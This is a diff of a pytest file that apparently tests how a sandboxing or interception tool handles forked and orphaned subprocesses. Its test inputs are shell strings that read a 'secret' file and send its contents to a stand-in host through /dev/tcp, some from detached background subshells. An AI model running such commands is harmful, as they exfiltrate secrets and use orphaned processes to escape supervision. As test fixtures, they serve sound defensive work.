@@ -19,7 +19,7 @@ def test_program_goes_on(case, outcome):
 
 SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
 # The parent ends while the child is made.
-ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9) & ); sleep 2")
+ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9; : >sent) & ); until [ -e sent ]; do sleep 0.1; done")
 
 
 @pytest.mark.parametrize("case", [Case("subshell", SUBSHELL, "takeover"), Case("orphan", ORPHAN, "takeover")], ids=str)
@@ -27,6 +27,22 @@ def test_forked_child_goes_on(case, outcome):
     assert_scrubbed(outcome)
     assert outcome.status == 0 and len(outcome.questions) == 1 and not outcome.tainted, outcome.describe()
     assert b"first" in outcome.received and b"second" in outcome.received, outcome.describe()
+
+
+# The parent has often ended before its doppelganger makes its first call.
+ORPHANS = """
+x=$(tr '\\n' ' ' < secret)
+for i in 1 2 3 4 5 6 7 8; do
+    ((read -r uptime _ < /proc/uptime; sleep 0.1; echo first $x > /dev/tcp/remote/9; : >sent.$i) & )
+    until [ -e sent.$i ]; do sleep 0.1; done
+done
+"""
+
+
+@pytest.mark.parametrize("case", [Case("orphans", ORPHANS, "takeover", timeout=30)], ids=str)
+def test_every_orphan_has_a_doppelganger(case, outcome):
+    assert_scrubbed(outcome)
+    assert outcome.status == 0 and outcome.received.count(b"first") == 8 and not outcome.tainted, outcome.describe()
 
 
 @pytest.mark.parametrize("case", [Case("all", f"takeover secret {HALVES}", "takeover")], ids=str)
